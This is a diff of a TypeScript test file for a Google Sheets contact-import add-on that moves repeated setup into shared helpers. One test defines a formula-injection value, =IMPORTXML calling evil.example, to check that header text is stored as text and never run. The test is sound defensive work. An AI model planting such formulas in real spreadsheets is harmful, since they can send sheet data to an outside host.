@@ -11,54 +11,31 @@ import {
   importAll,
   setUp,
   startAddon,
+  withAddon,
   TOKEN,
   OWNER,
   type Addon,
 } from '../support/addon-harness';
+import { contactsTab, editCells } from '../support/contacts-tab';
+import { setUpFormulaHeaderTab } from '../support/formula-header';
+import { peopleSheet, setUpTwoBroken } from '../support/people-sheet';
 
-const HEADER = ['First Name', 'Last Name', 'Mobile', 'Email'];
-
-function sheet(rows = 60): unknown[][] {
-  const out: unknown[][] = [HEADER];
-  for (let i = 0; i < rows; i++) {
-    out.push([
-      `Person${i}`,
-      `Family${(i * 7) % 13}`,
-      `+60 13-${String(2_000_000 + i).slice(0, 3)} ${String(2_000_000 + i).slice(3)}`,
-      `p${i}@example.com`,
-    ]);
-  }
-  return out;
-}
+const sheet = (rows = 60) => peopleSheet(rows, (i) => (i * 7) % 13);
 
 let addon: Addon;
 beforeAll(async () => {
-  addon = await startAddon({ Contacts: sheet() }, ['--seed', 'empty', '--rate', '40']);
-  addon.fakes.uncounted(() =>
-    addon.fakes.globals.PropertiesService.getScriptProperties().setProperty(
-      'contactImport.sliceMs',
-      '400',
-    ),
-  );
+  addon = await startAddon({ Contacts: sheet() }, ['--seed', 'empty', '--rate', '40'], {
+    sliceMs: 400,
+  });
 }, 60_000);
 afterAll(() => addon.stop());
 
-const contactsTab = () =>
-  addon.fakes.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Contacts')!;
+const tab = () => contactsTab(addon);
 const state = () => addon.fakes.spreadsheet.sheetState('Contacts');
 
 describe('checking in place', () => {
   beforeAll(() => {
-    setUp(addon, {
-      purpose: 'add-update',
-      identifier: 'phone',
-      importTag: null,
-      defaultCountry: 'MY',
-    });
-    addon.fakes.spreadsheet.edit(() => {
-      const tab = contactsTab();
-      tab.getRange(4, 1).setValue(''); // row 4: no first name
-      tab.getRange(6, 4).setValue('p4 at example'); // row 6: not an email
+    setUpTwoBroken(addon, (tab) => {
       tab.getRange(8, 3).setValue("'013-555 0101"); // row 8: local number, fixable with MY
       tab.getRange(5, 1, 1, 2).setBackground('#fff2cc'); // the person's own colour
     });
@@ -114,13 +91,7 @@ describe('checking in place', () => {
   });
 
   test('editing a flagged cell re-checks its row at once (onEdit)', () => {
-    addon.fakes.spreadsheet.edit(() => contactsTab().getRange(4, 1).setValue('Fixed'));
-    addon.fakes.calls.reset();
-    addon.bundle.invoke('onEdit', {
-      range: contactsTab().getRange(4, 1),
-      value: 'Fixed',
-      authMode: addon.fakes.globals.ScriptApp.AuthMode.LIMITED,
-    });
+    editCells(addon, 4, 1, 'Fixed');
     const s = state();
     expect(s.values[3]![s.values[0]!.indexOf('Error')]).toBe('');
     expect(s.effectiveBackgrounds[3]![0]).not.toBe('#f4c7c3');
@@ -156,7 +127,7 @@ describe('importing', () => {
     const { progress } = importAll(addon, 'pending', () => {
       if (sorted) return;
       sorted = true;
-      addon.fakes.spreadsheet.edit(() => contactsTab().sort(2, false));
+      addon.fakes.spreadsheet.edit(() => tab().sort(2, false));
     });
     expect(sorted).toBe(true);
     expect(progress.status).toBe('completed');
@@ -209,41 +180,20 @@ describe('importing', () => {
 describe('text that looks like a formula', () => {
   test('is written as text, never run', async () => {
     const evil = '=IMPORTXML("http://evil.example/x","//a")';
-    const other = await startAddon({ Sheet1: [] }, ['--seed', 'empty']);
-    try {
-      other.fakes.spreadsheet.seedSheet(
-        'Contacts',
-        [
-          ['First Name', 'Mobile', `'${evil}`],
-          ['Ann', '+60 12-345 6789', 'not-an-email'],
-        ],
-        { typed: true },
-      );
-      setUp(other, {
-        purpose: 'add-update',
-        identifier: 'phone',
-        importTag: null,
-        mapping: [
-          { column: 0, header: 'First Name', field: 'firstName', match: 'manual', confidence: 1 },
-          { column: 1, header: 'Mobile', field: 'phone', match: 'manual', confidence: 1 },
-          { column: 2, header: evil, field: 'email', match: 'manual', confidence: 1 },
-        ],
-      });
+    await withAddon({ Sheet1: [] }, ['--seed', 'empty'], (other) => {
+      setUpFormulaHeaderTab(other, evil, [['Ann', '+60 12-345 6789', 'not-an-email']]);
       other.call('reviewSheet');
       const s = other.fakes.spreadsheet.sheetState('Contacts');
       const error = s.values[0]!.indexOf('Error');
       expect(s.values[1]![error]).toMatch(/^=IMPORTXML\(/);
       expect(s.formulas.flat().filter((f) => f !== '')).toEqual([]);
-    } finally {
-      await other.stop();
-    }
+    });
   }, 120_000);
 });
 
 describe('an identifier the workspace holds twice', () => {
   test('review names the identifier cell; an edit elsewhere leaves that message, fixing it clears it', async () => {
-    const other = await startAddon({ Sheet1: [] }, ['--seed', 'empty']);
-    try {
+    await withAddon({ Sheet1: [] }, ['--seed', 'empty'], async (other) => {
       const shared = '+60132000003';
       await fetch(`${other.emulator.origin}/__admin/reset`, {
         method: 'POST',
@@ -255,20 +205,11 @@ describe('an identifier the workspace holds twice', () => {
       });
       other.fakes.spreadsheet.seedSheet('Contacts', sheet(6));
       setUp(other, { purpose: 'add-update', identifier: 'phone', importTag: null });
-      const tab = () =>
-        other.fakes.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Contacts')!;
       const errorOf = (row: number) => {
         const s = other.fakes.spreadsheet.sheetState('Contacts');
         return { text: s.values[row - 1]![s.values[0]!.indexOf('Error')], s };
       };
-      const edit = (row: number, col: number, value: string) => {
-        other.fakes.spreadsheet.edit(() => tab().getRange(row, col).setValue(value));
-        other.bundle.invoke('onEdit', {
-          range: tab().getRange(row, col),
-          value,
-          authMode: other.fakes.globals.ScriptApp.AuthMode.LIMITED,
-        });
-      };
+      const edit = (row: number, col: number, value: string) => editCells(other, row, col, value);
 
       // Row 5 is Person3, whose mobile is the twins' phone.
       expect(other.call('reviewSheet')).toMatchObject({ errors: 1, firstErrorRow: 5 });
@@ -285,16 +226,13 @@ describe('an identifier the workspace holds twice', () => {
       const cleared = errorOf(5);
       expect(cleared.text).toBe('');
       expect(cleared.s.effectiveBackgrounds[4]![2]).not.toBe('#f4c7c3');
-    } finally {
-      await other.stop();
-    }
+    });
   }, 120_000);
 });
 
 describe('a slice at work', () => {
   test('a second execution sees its rows done move before the slice answers', async () => {
-    const other = await startAddon({ Contacts: sheet(50) }, ['--seed', 'empty', '--rate', '10']);
-    try {
+    await withAddon({ Contacts: sheet(50) }, ['--seed', 'empty', '--rate', '10'], (other) => {
       setUp(other, { purpose: 'add-update', identifier: 'phone', importTag: null });
       const { jobId } = other.call('startImport', 'pending');
       // Every request the slice sends first lets another execution look, as the sidebar's
@@ -329,9 +267,7 @@ describe('a slice at work', () => {
       expect(seen).toEqual([...seen].sort((a, b) => a - b));
       // Once the job has ended there is nothing live to show.
       expect(other.call('getImportProgress', jobId)).toBeNull();
-    } finally {
-      await other.stop();
-    }
+    });
   }, 60_000);
 });
 
@@ -343,8 +279,7 @@ describe('settings bigger than one property', () => {
       ...Array.from({ length: 148 }, (_, i) => `Survey answer ${i + 1}: how did you hear of us`),
     ];
     const row = ['Ann', '+60 13-200 0001', ...headers.slice(2).map((_, i) => `answer ${i}`)];
-    const other = await startAddon({ Contacts: [headers, row] }, ['--seed', 'empty']);
-    try {
+    await withAddon({ Contacts: [headers, row] }, ['--seed', 'empty'], (other) => {
       const saved = setUp(other, { purpose: 'add-update', identifier: 'phone', importTag: null });
       expect(JSON.stringify(saved).length).toBeGreaterThan(9 * 1024);
       const reopened = other.call('getWizardState');
@@ -368,8 +303,6 @@ describe('settings bigger than one property', () => {
       expect(narrow.ok).toBe(true);
       expect(pieces()).toEqual([]);
       expect(other.call('getWizardState').settings.mapping).toHaveLength(2);
-    } finally {
-      await other.stop();
-    }
+    });
   }, 120_000);
 });
